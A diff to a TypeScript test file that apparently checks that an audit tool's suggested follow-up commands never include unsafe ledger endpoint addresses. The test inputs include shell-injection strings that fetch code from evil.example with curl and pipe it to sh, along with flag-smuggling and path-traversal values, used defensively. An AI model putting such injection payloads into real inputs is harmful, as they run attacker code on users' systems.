@@ -24,7 +24,8 @@ import { vouching } from '../gateway/persons.ts';
 import { keyOptions } from './holder-world.ts';
 
 const KINDS = Object.values(CHECKS).flatMap(({ gaps }): readonly (keyof Unseen)[] => gaps);
-const ASKED: AuditAsked = { urls: ['https://one.example'], isSomebody: true };
+const member = (identity: string) => `“${identity}”`;
+const ASKED: AuditAsked = { urls: ['https://one.example'], isSomebody: true, member };
 
 /** A report in which nothing was seen of one thing. */
 function without(gap: Partial<Gap> & Pick<Gap, 'kind'>): AuditReport {
@@ -35,7 +36,11 @@ function without(gap: Partial<Gap> & Pick<Gap, 'kind'>): AuditReport {
 
 describe('what an audit could not tell', () => {
   it.each(KINDS.map((kind) => [kind] as const))('of %s is said with what to do next', (kind) => {
-    for (const asked of [ASKED, { ...ASKED, isSomebody: false }, { urls: [], bundle: 'all.json', isSomebody: false }]) {
+    for (const asked of [
+      ASKED,
+      { ...ASKED, isSomebody: false },
+      { ...ASKED, urls: [], bundle: 'all.json', isSomebody: false },
+    ]) {
       for (const denied of [{}, { denied: true } as const]) {
         const [empty, head, ...steps] = nextLines(without({ kind, ...denied }), asked);
         expect([empty, head]).toEqual(['', 'To learn what could not be told:']);
@@ -44,6 +49,24 @@ describe('what an audit could not tell', () => {
         for (const step of steps) expect(step).toMatch(/`.+ .+`|newer version|any more/);
       }
     }
+  });
+
+  it.each([
+    "http://x';curl evil.example|sh;'",
+    'http://x`curl evil.example`',
+    'https://two.example --out all.json',
+    '--out=all.json',
+    'https://two.example/$HOME',
+    'https://user@two.example',
+    'https://two.example/?log',
+    'ftp://two.example',
+    'HTTPS://TWO.example',
+    'https://two.example/a/../b',
+  ])('puts no address of the ledger into a command that is no plain URL (%s)', (endpoint) => {
+    const lines = nextLines(without({ kind: 'logs', holder: '0xab' as never, endpoint }), ASKED).join('\n');
+    expect(lines).not.toContain(endpoint);
+    expect(lines).toContain('The ledger has no address that can be used for the log of “0xab”: ask');
+    expect(lines).toMatch(/`.* --log https:\/\/one\.example URL`$/);
   });
 
   it('is nothing where all was seen', () => {
